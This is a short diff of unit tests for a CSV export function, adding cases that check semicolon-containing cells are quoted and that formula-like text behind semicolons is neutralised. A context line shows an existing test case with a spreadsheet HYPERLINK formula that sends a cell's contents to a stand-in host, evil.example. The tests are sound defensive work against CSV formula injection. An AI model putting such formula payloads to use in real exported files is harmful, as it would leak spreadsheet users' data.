@@ -41,6 +41,18 @@ describe('what is whole', () => {
   });
 });
 
+it('is quoted where a spreadsheet with a decimal comma would part it', () => {
+  expect(toCsv(['Name'], [['a;b']])).toBe(`${BOM}Name\r\n"a;b"`);
+});
+
+it.each([
+  ['foo;=1+1', "foo;'=1+1"],
+  ['=1;@SUM(1)', "'=1;'@SUM(1)"],
+  ['x; -2+3', "x;' -2+3"],
+])('%j is inert behind its semicolons too', (cell, inert) => {
+  expect(cellOf(cell)).toBe(inert);
+});
+
 describe('what a spreadsheet would run', () => {
   it.each([
     '=HYPERLINK("http://evil.example?x="&A1,"click, me")',
